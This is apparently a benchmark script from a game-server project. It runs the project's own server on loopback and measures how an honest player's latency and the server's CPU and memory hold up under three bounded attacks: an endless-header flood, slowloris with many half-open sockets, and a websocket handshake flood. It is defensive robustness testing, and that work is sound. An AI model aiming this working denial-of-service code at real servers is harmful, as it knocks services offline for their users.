"""Attack benchmark of ``paohuzi serve``: issue 24's attacks, while an honest player plays.

Starts the real server (``python -m paohuzi.cli.main serve``, its default limits) on
a free port of 127.0.0.1 with a throw-away database. An honest player, from the
second loopback address 127.0.0.2, plays seat 0 of a room against two 初级 bots,
answering every decision at once. Meanwhile an attacker on 127.0.0.1 runs, in turn,
for ``--seconds`` each:

- ``none``: nothing (the baseline);
- ``header``: 4 sockets each sending a request whose headers never end, a 1 KB
  header line at a time, as fast as the server reads them;
- ``slowloris``: up to ``--sockets`` sockets, each sending half a request header,
  then one more byte of it every second, never finishing;
- ``handshake``: a valid seat of another room reconnected in a loop, as fast as the
  server answers.

Prints per attack: the honest player's moves and its act → state round trip (p50,
p99), the server's CPU seconds and resident memory growth (from /proc), how many
attacking sockets were still open at the end, and what the attacker got done.
Run it on two checkouts to compare (the flags used exist on both).

    python benchmarks/server_attack.py [--seconds 12] [--attacks none,header,…] [--json]

Traffic goes to 127.0.0.1/127.0.0.2 only; every loop is bounded in count and time.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx
import websockets

HOST, HONEST = "127.0.0.1", "127.0.0.2"
ATTACKS = ("none", "header", "slowloris", "handshake")


def free_port() -> int:
    with socket.socket() as s:
        s.bind((HOST, 0))
        return int(s.getsockname()[1])


def proc_stats(pid: int) -> tuple[float, int]:
    """(CPU seconds, resident bytes) of a process, from /proc (Linux)."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    ticks = os.sysconf("SC_CLK_TCK")
    cpu = (int(fields[11]) + int(fields[12])) / ticks
    rss = int(fields[21]) * os.sysconf("SC_PAGE_SIZE")
    return cpu, rss


async def honest(base: str, port: int, end: float, out: dict[str, Any]) -> None:
    """Seat 0 of a room of bots, from 127.0.0.2: a random legal action at every decision."""
    rng = random.Random(1)
    lat: list[float] = []
    moves = 0
    transport = httpx.AsyncHTTPTransport(local_address=HONEST)
    async with httpx.AsyncClient(transport=transport, timeout=30) as c:
        r = (await c.post(base + "/api/rooms", json={"bots": 2, "bot": "easy", "hands": 64})).json()
    url = f"ws://{HOST}:{port}/ws/{r['room']}?token={r['token']}"
    sent: tuple[float, int] | None = None
    try:
        async with websockets.connect(url, max_size=None, local_addr=(HONEST, 0)) as ws:
            while (left := end - time.monotonic()) > 0:
                try:
                    raw = await asyncio.wait_for(ws.recv(), timeout=left)
                except TimeoutError:
                    break
                msg = json.loads(raw)
                if msg["type"] == "error":
                    sent = None
                    continue
                if msg["type"] != "state":
                    continue
                if sent is not None and msg["version"] > sent[1]:
                    lat.append(time.perf_counter() - sent[0])
                    sent = None
                if msg["legal_actions"] and sent is None:
                    act = rng.choice(msg["legal_actions"])["id"]
                    sent = (time.perf_counter(), msg["version"])
                    moves += 1
                    body = {"type": "act", "version": msg["version"], "action": act}
                    await ws.send(json.dumps(body))
    except (OSError, websockets.WebSocketException) as e:
        out["honest_error"] = f"{type(e).__name__}: {e}"
    out["moves"] = moves
    out["p50_ms"] = round(statistics.median(lat) * 1000, 1) if lat else None
    out["p99_ms"] = round(sorted(lat)[int(0.99 * (len(lat) - 1))] * 1000, 1) if lat else None


async def header_flood(port: int, end: float, out: dict[str, Any]) -> None:
    async def one() -> int:
        sent = 0
        with contextlib.suppress(OSError):
            _, w = await asyncio.open_connection(HOST, port)
            w.write(b"GET / HTTP/1.1\r\nHost: a\r\n")
            line = b"X-Junk: " + b"a" * 1014 + b"\r\n"  # 1 KB header lines, never a blank one
            while time.monotonic() < end and sent < 2**31:
                w.write(line)
                await w.drain()
                sent += 1024
            w.close()
        return sent

    sent = await asyncio.gather(*(one() for _ in range(4)))
    out["attacker"] = f"{sum(sent) / 2**10:,.0f} KB of header taken by the server"


async def slowloris(port: int, end: float, n: int, out: dict[str, Any]) -> None:
    socks: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    refused = 0
    for _ in range(n):
        if time.monotonic() > end - 1:
            break
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 2)
            w.write(b"GET / HTTP/1.1\r\nHost: a\r\nX-a: ")
            socks.append((r, w))
        except (OSError, TimeoutError):
            refused += 1
    while time.monotonic() < end:
        for _, w in socks:
            if not w.is_closing():
                with contextlib.suppress(OSError):
                    w.write(b"b")  # one more byte of a header value that never ends
        await asyncio.sleep(1)

    async def still_open(r: asyncio.StreamReader) -> bool:
        try:
            await asyncio.wait_for(r.read(), 0.5)  # to EOF: the server closed it
            return False
        except TimeoutError:
            return True
        except OSError:
            return False

    alive = sum(await asyncio.gather(*(still_open(r) for r, _ in socks)))
    for _, w in socks:
        w.close()
    out["attacker"] = f"{len(socks)} sockets opened, {refused} refused"
    out["sockets_open_at_end"] = alive


async def handshake_flood(base: str, port: int, end: float, out: dict[str, Any]) -> None:
    async with httpx.AsyncClient(timeout=30) as c:
        r = (await c.post(base + "/api/rooms", json={"bots": 2, "bot": "easy"})).json()
    url = f"ws://{HOST}:{port}/ws/{r['room']}?token={r['token']}"
    done = accepted = 0
    while time.monotonic() < end and done < 5000:
        done += 1
        try:
            async with websockets.connect(url, open_timeout=5) as ws:
                accepted += 1
                await asyncio.wait_for(ws.recv(), 5)
        except (OSError, TimeoutError, websockets.WebSocketException):
            pass
    out["attacker"] = f"{done} handshakes, {accepted} accepted"


async def phase(name: str, base: str, port: int, pid: int, args: argparse.Namespace) -> dict:
    out: dict[str, Any] = {"attack": name}
    cpu0, rss0 = proc_stats(pid)
    end = time.monotonic() + args.seconds
    jobs = [honest(base, port, end, out)]
    if name == "header":
        jobs.append(header_flood(port, end, out))
    elif name == "slowloris":
        jobs.append(slowloris(port, end, args.sockets, out))
    elif name == "handshake":
        jobs.append(handshake_flood(base, port, end, out))
    await asyncio.gather(*jobs)
    cpu1, rss1 = proc_stats(pid)
    out["server_cpu_s"] = round(cpu1 - cpu0, 2)
    out["server_rss_growth_mb"] = round((rss1 - rss0) / 2**20, 1)
    await asyncio.sleep(2)  # the server settles before the next attack
    return out


async def run(args: argparse.Namespace) -> list[dict[str, Any]]:
    port = free_port()
    base = f"http://{HOST}:{port}"
    with tempfile.TemporaryDirectory() as tmp:
        cmd = [
            sys.executable, "-m", "paohuzi.cli.main", "serve", "--host", HOST,
            "--port", str(port), "--db", str(Path(tmp) / "attack.sqlite3"),
            "--bot-delay", "0", "--away-timeout", "600", "--log-level", "critical",
        ]  # fmt: skip
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 30
            while True:
                with contextlib.suppress(httpx.HTTPError):
                    if httpx.get(base + "/api/health", timeout=1).status_code == 200:
                        break
                if time.monotonic() > deadline or proc.poll() is not None:
                    raise SystemExit("the server did not start")
                await asyncio.sleep(0.1)
            return [await phase(a, base, port, proc.pid, args) for a in args.attacks]
        finally:
            proc.terminate()
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--seconds", type=float, default=12)
    p.add_argument("--sockets", type=int, default=1000, help="slowloris sockets (1000)")
    p.add_argument("--attacks", default=",".join(ATTACKS))
    p.add_argument("--json", action="store_true")
    args = p.parse_args()
    args.attacks = [a for a in args.attacks.split(",") if a]
    if not set(args.attacks) <= set(ATTACKS):
        p.error(f"attacks are {', '.join(ATTACKS)}")
    rows = asyncio.run(run(args))
    if args.json:
        print(json.dumps(rows, indent=1))
        return
    print(f"honest player's moves and round trip, {args.seconds:g} s per attack:")
    for r in rows:
        extra = f", {r['sockets_open_at_end']} still open" if "sockets_open_at_end" in r else ""
        print(
            f"  {r['attack']:<10} moves {r['moves']:>4}  p50 {r['p50_ms']} ms  p99 {r['p99_ms']} ms"
            f"  server CPU {r['server_cpu_s']} s, RSS +{r['server_rss_growth_mb']} MB"
            f"  ({r.get('attacker', '-')}{extra}){'  ' + r['honest_error'] if 'honest_error' in r else ''}"
        )


if __name__ == "__main__":
    main()
